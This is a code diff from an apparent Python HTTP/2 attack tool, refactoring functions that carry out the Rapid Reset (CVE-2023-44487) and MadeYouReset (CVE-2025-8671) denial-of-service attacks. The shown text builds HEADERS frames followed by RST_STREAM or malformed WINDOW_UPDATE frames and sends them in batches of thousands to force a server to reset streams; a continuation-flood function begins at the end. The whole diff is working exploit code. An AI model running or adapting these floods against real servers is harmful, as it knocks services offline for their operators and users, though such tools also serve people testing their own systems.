@@ -55,40 +55,30 @@ def repeat(address, make, count=20_000, batch=100):
     abuser.tell()
 
 
-def rapid_reset(address):
-    """CVE-2023-44487: streams opened and reset at once."""
+def spoil(address, kind, word):
+    """Opens streams, and sends behind each head a frame of `kind` with one `word` that is the end of it."""
 
     def make(abuser):
         stream = abuser.next()
-        return frame(HEADERS, END_STREAM | END_HEADERS, stream, abuser.head()) + frame(
-            RST_STREAM, 0, stream, struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
-        )
+        head = frame(HEADERS, END_STREAM | END_HEADERS, stream, abuser.head())
+        return head + frame(kind, 0, stream, struct.pack(">I", word))
 
     repeat(address, make)
+
+
+def rapid_reset(address):
+    """CVE-2023-44487: streams opened and reset at once."""
+    spoil(address, RST_STREAM, h2.errors.ErrorCodes.CANCEL)
 
 
 def made_you_reset(address):
     """CVE-2025-8671: streams opened, and then made wrong, so that the other end resets them."""
-
-    def make(abuser):
-        stream = abuser.next()
-        return frame(HEADERS, END_STREAM | END_HEADERS, stream, abuser.head()) + frame(
-            WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)
-        )
-
-    repeat(address, make)
+    spoil(address, WINDOW_UPDATE, 0)
 
 
 def made_you_reset_by_window(address):
     """The same by a window that overflows."""
-
-    def make(abuser):
-        stream = abuser.next()
-        return frame(HEADERS, END_STREAM | END_HEADERS, stream, abuser.head()) + frame(
-            WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)
-        )
-
-    repeat(address, make)
+    spoil(address, WINDOW_UPDATE, 0x7FFFFFFF)
 
 
 def continuation_flood(address):
